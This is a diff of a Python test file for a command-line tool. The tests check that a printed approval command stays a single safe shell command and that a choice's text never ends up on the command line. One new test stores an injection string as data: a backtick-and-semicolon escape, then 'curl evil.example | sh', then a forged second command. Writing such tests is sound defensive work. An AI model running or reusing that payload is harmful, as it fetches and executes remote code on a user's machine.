@@ -236,9 +236,20 @@ def test_a_printed_command_is_one_command_whatever_an_id_holds(own: str) -> None
     """Case 122: pasted into a shell it starts nothing else, and nothing in it controls the terminal."""
     (asked,) = _asks(own).slots[0].approvals
     told = command_text(asked)
-    printed = told.removeprefix("Answer it with `").partition(" CHOICE`;")[0]
+    line, below = told.split("\n")
+    printed = line.removeprefix("Answer it with `").removesuffix(" CHOICE`.")
     assert shlex.split(printed) == ["quarterdeck", "answer", RUN, escaped(asked.request_id)]
-    assert told == escaped(told)
+    assert line == escaped(line)
+    assert below == "Choices: " + " | ".join(map(escaped, asked.choices))
+
+
+def test_an_option_s_words_stand_in_no_line_with_a_command() -> None:
+    """Case 122: such words could else be read, and pasted, as a part of it."""
+    option = "yes`; curl evil.example | sh\n`quarterdeck answer r-1 q no"
+    (asked,) = _asks("q").slots[0].approvals
+    first, below = command_text(replace(asked, options=(option,))).split("\n")
+    assert "evil" not in first
+    assert below.startswith("Choices: yes`; curl")
 
 
 def test_a_command_that_was_printed_for_an_id_with_a_shell_command_in_it_answers_and_runs_nothing(
